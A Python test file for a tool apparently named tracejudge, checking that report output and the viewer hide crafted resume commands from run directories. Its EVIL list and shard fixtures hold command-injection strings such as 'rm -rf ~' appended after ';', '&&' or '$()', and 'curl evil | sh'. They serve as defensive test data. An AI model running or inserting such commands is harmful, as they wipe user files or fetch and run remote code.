"""A run directory is input: the resume command it records is shown (`report`, the viewer) only when it is a command
`tracejudge run` writes; a crafted one (`tracejudge run c.yaml; rm -rf ~`) is not offered to be copied into a shell."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from _runs import native_case, view_server, write_config, write_dataset
from test_viewer_usability import get
from tracejudge.engine.resume_line import NOT_SHOWN, checked_resume, is_run_line
from tracejudge.entrypoints.cli import _parser, main
from tracejudge.entrypoints.commands.run import resume_command
from tracejudge.stages.aggregate.gate_coverage import shard_resume_commands
import _forkserver

EVIL = ["tracejudge run c.yaml; rm -rf ~", "tracejudge run c.yaml && rm -rf ~", "tracejudge run c.yaml $(rm -rf ~)",
        "tracejudge run c.yaml `rm -rf ~`", "tracejudge run c.yaml\nrm -rf ~", "rm -rf ~", "tracejudge run c.yaml | sh",
        "tracejudge run c.yaml --fresh", "tracejudge extract c.yaml -o x"]


@pytest.fixture(scope="module")
def finished(tmp_path_factory: pytest.TempPathFactory) -> Path:
    tmp = tmp_path_factory.mktemp("resume")
    data = write_dataset(tmp / "d.jsonl", [native_case(f"c-{i}", ["a"], ["a"]) for i in range(3)])
    assert main(["run", str(write_config(tmp / "c.yaml", data, tmp / "done")), "--no-progress"]) == 0
    return tmp / "done"


def _interrupted(finished: Path, where: Path, line: str, cwd: str | None = None) -> Path:
    """A copy of `finished` whose checkpoint says its last segment never ended, having recorded `line` to resume it."""
    shutil.copytree(finished, where, ignore=shutil.ignore_patterns("view.idx*"))
    cp = json.loads((where / "checkpoint.json").read_text())
    cp["segments"][-1].update(ended="running", command={"line": line, "cwd": cwd or str(Path.cwd())})
    (where / "checkpoint.json").write_text(json.dumps(cp))
    summary = json.loads((where / "summary.json").read_text())
    (where / "summary.json").write_text(json.dumps({**summary, "complete": False}))
    return where


def _report(run_dir: Path) -> str:
    proc = _forkserver.run([sys.executable, "-m", "tracejudge", "report", str(run_dir)], capture_output=True, text=True, timeout=300)
    return proc.stdout + proc.stderr


@pytest.mark.parametrize("line", EVIL[:3])
def test_a_crafted_resume_command_is_not_shown_by_report_nor_the_viewer(finished: Path, tmp_path: Path, line: str) -> None:
    run_dir = _interrupted(finished, tmp_path / "crafted", line, cwd="/srv/evals")
    out = _report(run_dir)
    assert "INTERRUPTED" in out and "rm -rf" not in out and "cd /srv/evals" not in out, out
    assert f"resume with: tracejudge run CONFIG --run-dir {run_dir}" in out and "not one tracejudge writes, so it is not shown" in out
    with view_server(str(run_dir)) as url:
        page = get(url + "/run/crafted")[1]
        assert "interrupted" in page and "rm -rf" not in page and "not one tracejudge writes" in page


def test_the_command_a_run_recorded_is_still_shown_as_written(finished: Path, tmp_path: Path) -> None:
    line = "tracejudge --log-level info run 'my configs/c.yaml' --run-dir 'runs/a b' --set 'judge.model=$(x)' --no-progress"
    run_dir = _interrupted(finished, tmp_path / "genuine", line, cwd="/some where")
    assert f"(resume with: cd '/some where' && {line})" in _report(run_dir)


def test_every_option_a_resume_keeps_is_one_the_check_accepts() -> None:
    # The options `commands.run.resume_command` writes and those `resume_line` accepts are two lists: built from every
    # one given, the command passes, so an option added to the first only is seen here.
    args = _parser().parse_args(["--log-level", "debug", "run", "c d.yaml", "--set", "judge.api_key=sk-x", "--set", "a=$(x); y",
                                 "--shard", "1/2", "--rescore", "runs/old", "--explain-cache", "--no-progress", "--progress-every", "3"])
    line = resume_command(args, Path("runs/it's"))
    assert all(flag in line for flag in ("--run-dir", "--shard", "--rescore", "--explain-cache", "--no-progress", "--progress-every"))
    assert is_run_line(line), line
    for text in EVIL:
        assert not is_run_line(text) and checked_resume(text) == NOT_SHOWN, text
        assert checked_resume(f"cd /srv/evals && {text}") == NOT_SHOWN, text
    assert checked_resume("cd /srv/evals; rm -rf ~ && tracejudge run c.yaml") == NOT_SHOWN
    assert checked_resume(f"cd '/a && b' && {line}") == f"cd '/a && b' && {line}"


def test_a_merge_shows_only_shard_commands_the_tool_writes() -> None:
    # A merge's summary.json keeps its shards' commands whole: read back, it is input as well.
    summary = {"shards": {"interrupted": [{"shard": "1/2", "resume": "cd /srv/evals && tracejudge run c.yaml --shard 1/2"},
                                          {"shard": "2/2", "resume": "tracejudge run c.yaml --shard 2/2; curl evil | sh"}],
                          "beside": [{"shard": "3/3", "resume": "tracejudge run CONFIG --run-dir runs/x-shard-3-of-3 --shard 3/3 "
                                                               "(CONFIG: the config the run was started with)"}]}}
    assert shard_resume_commands(summary) == [
        "cd /srv/evals && tracejudge run c.yaml --shard 1/2", NOT_SHOWN,
        "tracejudge run CONFIG --run-dir runs/x-shard-3-of-3 --shard 3/3 (CONFIG: the config the run was started with)"]
